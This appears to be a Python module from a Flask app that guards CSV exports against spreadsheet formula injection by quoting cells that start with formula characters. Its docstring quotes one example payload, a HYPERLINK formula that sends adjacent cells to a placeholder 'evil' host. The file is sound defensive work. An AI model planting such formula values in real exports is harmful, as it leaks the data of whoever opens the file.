"""CSV exports that a spreadsheet cannot turn against the manager who opens them.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by
Excel and LibreOffice: a member named `=HYPERLINK("http://evil/?"&A1)` would send the next
cells to a stranger. Every export goes through `csv_text`, which prefixes such cells with a
single quote (OWASP's advice) so they are shown as text. Numbers stay numbers: `-12.50`, a
credit note's amount, cannot be a formula.
"""
from __future__ import annotations

import csv
import io
import re
from typing import Iterable

from flask import Response

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def safe_cell(value) -> str:
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_START) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(header: Iterable, rows: Iterable[Iterable], delimiter: str = ",") -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow([safe_cell(cell) for cell in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()


def csv_response(text: str, filename: str) -> Response:
    """A CSV download; `filename` is made by the server (no quote or path in it)."""
    return Response(text, mimetype="text/csv", headers={
        "Content-Disposition": f'attachment; filename="{filename}.csv"'})
